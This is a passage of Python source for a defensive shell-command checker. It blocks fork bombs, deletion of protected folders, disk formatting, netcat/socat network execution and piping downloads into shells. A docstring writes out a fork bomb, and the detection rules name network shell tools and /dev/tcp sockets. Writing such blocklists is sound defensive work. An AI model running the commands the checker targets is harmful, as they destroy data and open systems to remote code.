_AFTER = r"(?![^\s;&|)}])"


def _fork_bomb(text: str) -> str | None:
    """A function that pipes or backgrounds itself twice, e.g. :(){ :|:& };:"""
    unquoted = _QUOTED.sub("''", text)
    if re.search(r"%0\s*\|\s*%0", unquoted):
        return "fork bomb (%0|%0) is blocked"
    for m in _FUNC_DEF.finditer(unquoted):
        name = m.group("a") or m.group("b")
        body = m.group("ba") if m.group("a") else m.group("bb")
        n = re.escape(name)
        self_pipe = re.search(rf"{_BEFORE}{n}{_AFTER}\s*\|&?\s*{n}{_AFTER}", body)
        self_bg = re.findall(rf"{_BEFORE}{n}{_AFTER}\s*&(?!&)", body)
        if self_pipe or len(self_bg) >= 2:
            return f"fork bomb (function {name!r} spawning itself) is blocked"
    return None


# ---------------------------------------------------------------------------
# Checks.
# ---------------------------------------------------------------------------

_RECURSIVE_ATTR = {"chmod", "chown", "chgrp", "chattr", "setfacl"}


def _check_program(
    name: str, argv: list[Word], simple: SimpleCommand, state: _State, depth: int
) -> str | None:
    """The per-program rules: destruction of protected folders and disks."""
    values = [w.value for w in argv[1:]]
    if name in ("rm", "srm"):
        return _check_rm(name, values, state)
    if name == "find":
        return _check_find(argv[1:], simple, state, depth)
    if name == "rsync":
        return _check_rsync(values, state)
    if name in _RECURSIVE_ATTR:
        return _check_recursive_attr(name, values, state)
    if name == "mv":
        return _check_mv(values, state) or _check_disk_tool(name, values)
    if _MKFS.fullmatch(name):
        return _check_mkfs(name, values, state)
    if name in _NETCATS or name == "socat":
        return _check_network_exec(name, values)
    return _check_disk_tool(name, values)


def _check_code_runner(
    name: str, argv: list[Word], simple: SimpleCommand, state: _State, depth: int
) -> str | None:
    """Shells and interpreters: the code they are given, and downloads they run."""
    net = state.net
    code = shell_code(argv)
    if code is not None:
        reason = _check_text(code.value, depth + 1, net)
        if reason:
            return reason
    inv = invocation(argv)
    if inv is None:
        return None
    found = (
        _word_download(inv.code, depth, net)
        or _word_download(inv.script, depth, net)
        or (_stdin_download(simple, depth, net) if inv.reads_stdin else None)
    )
    if found:
        return f"running a download ({found}) with {name} is blocked"
    if (name in SHELLS or name in ("su", "runuser")) and inv.reads_stdin:
        for r in simple.redirects:
            body = r.heredoc if r.op in ("<<", "<<-") else None
            if r.op == "<<<" and r.target is not None:
                body = r.target.value
            if body:
                reason = _check_text(body, depth + 1, net)
                if reason:
                    return reason
    return None


def _check_argv(argv: list[Word], simple: SimpleCommand, state: _State, depth: int) -> str | None:
    name = basename(argv[0].value)
    if name in ("cd", "pushd"):
        state.cwd = _update_cwd(argv, state.cwd)
        if state.cwd is None and not _goes_down(argv):
            state.cwd_lost = True
        return None
    if name == "popd":
        state.cwd = None
        state.cwd_lost = True
        return None
    return _check_program(name, argv, simple, state, depth) or _check_code_runner(
        name, argv, simple, state, depth
    )


def _printed_text(element: Element) -> str | None:
    """Text that `echo`/`printf`/`cat <<EOF` writes, for when it is piped into a command."""
    if not isinstance(element, SimpleCommand):
        return None
    here = _here_text(element)
    resolved = _resolved(element)
    if resolved is None or not resolved.argv:
        return None
    name = basename(resolved.argv[0].value)
    args = [w.value for w in resolved.argv[1:]]
    if name == "cat" and not args:
        return here
    if name == "echo":
        while args and re.fullmatch(r"-[neE]+", args[0]):
            args.pop(0)
    elif name != "printf":
        return None
    return " ".join(args).replace("\\n", "\n")


def _here_text(simple: SimpleCommand) -> str | None:
    """The here-document or here-string a command reads as stdin."""
    for r in simple.redirects:
        if r.op in ("<<", "<<-") and r.heredoc:
            return r.heredoc
        if r.op == "<<<" and r.target is not None:
            return r.target.value
    return None


def _listed_items(element: Element) -> list[str] | None:
    """What a command writes one item a line, as xargs would read it (echo, printf, find)."""
    printed = _printed_text(element)
    if printed is not None:
        return printed.split()
    if isinstance(element, SimpleCommand):
        resolved = _resolved(element)
        if resolved and resolved.argv and basename(resolved.argv[0].value) == "find":
            paths, expr = _find_parts(resolved.argv[1:])
            if _min_depth([w.value for w in expr]) == 0:
                return paths  # find prints its starting points first
    return None


def _check_xargs(
    argv: list[Word],
    replace: str | None,
    items: list[str],
    simple: SimpleCommand,
    state: _State,
    depth: int,
) -> str | None:
    """Check the command xargs (or parallel) builds from the items it reads."""
    if replace is None:
        built = [argv + [Word(item) for item in items]]
    else:
        built = [[Word(w.value.replace(replace, item)) for w in argv] for item in items]
    for candidate in built:
        reason = _check_argv(candidate, simple, state, depth)
        if reason:
            return reason
    return None


def _check_simple(
    simple: SimpleCommand, state: _State, depth: int, fed: list[str] | None = None
) -> str | None:
    # Substitutions run whatever the outer command is.
    for w in simple.words:
        for inner in w.inner_texts():
            reason = _check_text(inner, depth + 1, state.net)
            if reason:
                return reason
    for r in simple.redirects:
        if r.target is None:
            continue
        for inner in r.target.inner_texts():
            reason = _check_text(inner, depth + 1, state.net)
            if reason:
                return reason
        if r.op in _OUTPUT_REDIRS and _is_disk(r.target.value):
            return f"redirect onto disk device {r.target.value} is blocked"
    resolved = _resolved(simple)
    if resolved is None:
        return None
    for code in resolved.extra_code:
        reason = _check_text(code, depth + 1, state.net)
        if reason:
            return reason
    if not resolved.argv:
        return None
    if resolved.xargs is not None:
        here = _here_text(simple)
        items = here.split() if here is not None else fed
        if items:
            reason = _check_xargs(
                resolved.argv, resolved.xargs.replace, items, simple, state, depth
            )
            if reason:
                return reason
    return _check_argv(resolved.argv, simple, state, depth)


def _check_pipeline(pipeline: Pipeline, state: _State, depth: int) -> str | None:
    commands = pipeline.commands
    # sinks[k]: a later element that runs its stdin as a program (computed once: O(n)).
    # A download before it reaches it through any filters in between (`| base64 -d |`).
    sinks: list[str | None] = [None] * len(commands)
    for k in range(len(commands) - 2, -1, -1):
        sinks[k] = program_sink(commands[k + 1], depth, state.lines_evaluated) or sinks[k + 1]
    for k, element in enumerate(commands):
        # What a command writes into a >(sh) of its own (`curl URL > >(sh)`) is run too
        # (a group's commands are looked at in their own pipelines).
        own = output_sink(element, depth) if isinstance(element, SimpleCommand) else None
        sink = sinks[k] or own
        if sink is None:
            continue
        source = _element_download(element, depth, state.net)
        if source is not None:
            return f"piping a download ({source}) into {sink} is blocked"
        printed = _printed_text(element)
        if printed is not None and sinks[k] is not None:
            reason = _check_text(printed, depth + 1, state.net)
            if reason:
                return reason
    for k, element in enumerate(commands):
        if isinstance(element, Group):
            reason = _check_pipelines(element.body, state, depth)
        else:
            fed = _listed_items(commands[k - 1]) if k > 0 else None
            reason = _check_simple(element, state, depth, fed)
        if reason:
            return reason
    return None


def _check_pipelines(pipelines: list[Pipeline], state: _State, depth: int) -> str | None:
    for pipeline in pipelines:
        reason = _check_pipeline(pipeline, state, depth)
        if reason:
            return reason
    return None


@functools.lru_cache(maxsize=256)
def _check_text(text: str, depth: int, net: str | None = None) -> str | None:
    """The reason `text` is blocked, or None. `net`: a remote socket the enclosing script
    opened on /dev/tcp (its descriptors are inherited by the code it runs)."""
    if depth > _MAX_DEPTH or not text.strip():
        return None
    reason = _fork_bomb(text)
    if reason:
        return reason
    state = _State(net=net or _socket_opened(text), lines_evaluated=evaluates_lines(text))
    return _check_pipelines(parse(text), state, depth)


def check_hardline(command: str) -> str | None:
    """Return a one-line reason when ``command`` is on the hardline blocklist, else None.

    ``command`` is shell text as it would be passed to ``sh -c``. The check is
    deliberately conservative about what counts as a command (text given to
    ``echo`` is data) and aims for no false positives on everyday commands.
    """
    global _cached_home
    home = _real_home()
    if home != _cached_home:
        # Verdicts depend on the home directory; drop those made for another one.
        _check_text.cache_clear()
        _cached_home = home
    return _check_text(command, 0)


_cached_home: str | None = None
